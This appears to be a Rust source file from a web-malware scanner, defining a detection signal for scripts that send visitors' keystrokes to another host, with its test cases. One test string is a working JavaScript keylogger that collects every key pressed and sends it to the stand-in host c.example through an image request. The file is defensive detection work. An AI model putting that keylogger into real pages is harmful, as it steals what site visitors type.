//! `keys-sent-abroad`.

use crate::facts::Atom;
use crate::signals::{Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "keys-sent-abroad",
    description: "The script sends the keys that visitors press to another host.",
    severity: Severity::Medium,
    classes: ClassSet::MAGECART.union(ClassSet::MALWARE),
    needs: &[one(&[Atom::KeysSentAbroad])],
    within: 0,
    only_if: None,
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "var k='';document.onkeypress=function(e){k+=String.fromCharCode(e.which)};function s(){new Image().src='//c.example/?k='+k}",
        ],
        without: &["document.onkeydown=function(e){if(e.keyCode==27)fetch('https://c.example/closed')}"],
    },
};
